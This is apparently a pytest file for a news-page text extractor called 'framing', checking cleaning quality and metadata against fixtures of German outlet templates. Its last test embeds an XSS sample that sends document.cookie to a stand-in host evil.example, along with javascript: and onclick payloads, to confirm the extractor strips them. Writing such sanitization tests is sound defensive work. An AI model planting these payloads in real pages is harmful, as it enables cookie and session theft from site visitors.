"""HTML pages that mimic German outlet templates: framing's cleaned body against the true body."""

import json

import pytest

from benchmarks.html_extraction import FIXTURES, evaluate
from framing.ingest import read_bytes
from framing.pipeline import prepare

PAGES = sorted(path.stem for path in FIXTURES.glob("*.html"))


@pytest.fixture(scope="module")
def results():
    return evaluate()


def test_there_are_realistic_fixtures():
    assert len(PAGES) >= 6


@pytest.mark.parametrize("name", PAGES)
def test_framing_is_at_least_as_good_as_plain_trafilatura(results, name):
    plain, ours = results[name]
    assert ours.precision >= 0.95 and ours.recall >= 0.95
    assert ours.f1 >= plain.f1
    if plain.precision < 0.99:  # trafilatura let boilerplate through: framing must do better
        assert ours.f1 > plain.f1


def test_trafilatura_lets_boilerplate_through_on_most_templates(results):
    leaky = [name for name, (plain, _) in results.items() if plain.precision < 0.99]
    assert len(leaky) >= 4


@pytest.mark.parametrize("name", PAGES)
def test_metadata_from_the_page(name):
    expected = json.loads((FIXTURES / f"{name}.expected.json").read_text(encoding="utf-8"))
    article = prepare(read_bytes((FIXTURES / f"{name}.html").read_bytes(), name))
    assert article.title == expected["title"]
    assert article.date == expected["date"]
    assert article.url == expected["url"]
    assert article.outlet == expected["outlet"]
    assert article.provenance.outlet_method == "url"
    assert not article.text.startswith(expected["title"])


def test_scripts_inside_the_article_never_reach_the_text():
    html = (
        "<html><head><title>Test</title></head><body><article><h1>Rathaus beschließt Haushalt</h1>"
        "<p>Der Stadtrat hat am Abend den Haushalt für das kommende Jahr beschlossen.</p>"
        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
        '<p onclick="alert(1)">Die Opposition stimmte dagegen und kritisierte die hohen Ausgaben.</p>'
        '<p><a href="javascript:alert(2)">Mehr lesen</a> Die Beratungen dauerten mehr als vier Stunden.</p>'
        "</article></body></html>"
    ).encode()
    article = prepare(read_bytes(html, "evil.html"))
    assert "Der Stadtrat hat am Abend" in article.text
    assert "Die Opposition stimmte dagegen" in article.text
    for forbidden in ("document.cookie", "evil.example", "alert(", "javascript:", "onclick"):
        assert forbidden not in article.text
